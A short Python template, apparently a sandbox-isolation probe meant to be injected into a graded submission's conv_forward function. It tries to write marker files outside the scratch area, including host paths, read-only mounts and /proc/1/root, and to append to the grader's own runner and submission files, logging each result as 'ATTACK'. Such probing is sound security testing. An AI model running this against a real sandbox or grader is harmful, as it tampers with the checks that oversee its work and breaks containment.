# where: conv_forward
# Write outside the sandbox's scratch space: host paths (filled in) and the read-only mounts.
import os as _os
for _p in ('{host_file}', '/usr/pwned-{tag}', '/usr/lib/pwned-{tag}', '/opt/venv/pwned-{tag}',
           '/opt/venv/lib/pwned-{tag}', '/job/submission/pwned-{tag}', '/job/runner/pwned-{tag}',
           '/job/runner/main.py', '/job/submission/convolutional_networks.py', '/pwned-{tag}',
           '/proc/1/root/usr/pwned-{tag}', '/dev/pwned-{tag}', '{venv}/pwned-{tag}'):
    try:
        with open(_p, 'a') as _f:
            _f.write('pwned {tag}\n')
        print('ATTACK: wrote %s' % _p)
    except Exception as _e:
        print('ATTACK: write %s %s' % (_p, type(_e).__name__))
for _d in ('{host_dir}', '/usr/pwned-dir-{tag}'):
    try:
        _os.makedirs(_d)
        print('ATTACK: made %s' % _d)
    except Exception as _e:
        print('ATTACK: mkdir %s %s' % (_d, type(_e).__name__))
